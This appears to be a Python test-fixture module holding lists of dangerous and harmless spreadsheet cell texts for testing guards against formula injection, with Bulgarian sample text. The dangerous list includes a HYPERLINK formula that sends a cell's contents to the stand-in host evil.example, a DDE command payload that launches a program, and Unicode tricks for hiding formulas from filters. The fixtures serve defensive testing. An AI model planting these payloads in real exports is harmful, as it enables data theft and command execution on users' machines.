"""Cell texts for the tests of every guard against spreadsheet formulas."""

#: Texts that a spreadsheet could run as a formula.
DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tтекст",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",  # no-break space
    "\u3000＝1+1",  # ideographic space
    "\ufeff=1+1",  # byte order mark
    "\u200b=1+1",  # zero-width space
    "\u200e-1",  # left-to-right mark
    "\u2060+1",  # word joiner
    "\u00ad@SUM(A1)",  # soft hyphen
    "\x01=1+1",
    " \ufeff\u200b =1+1",
    " \n=1",
    '=HYPERLINK("https://evil.example/?"&A1,"тук")',
    "=cmd|' /C calc'!A0",
    "- първа точка",
]

#: Texts that a guard must leave as they are.
HARMLESS = [
    "",
    "   ",
    "Добър ден",
    "  Добър ден",
    "\ufeffДобър ден",
    "2 + 2 = 4",
    "a@example.bg",
    "(-1)",
    "'=1+1",
    "„=1+1“",
    "– първа точка",
    "Ред\n=1+1",
    "1",
]
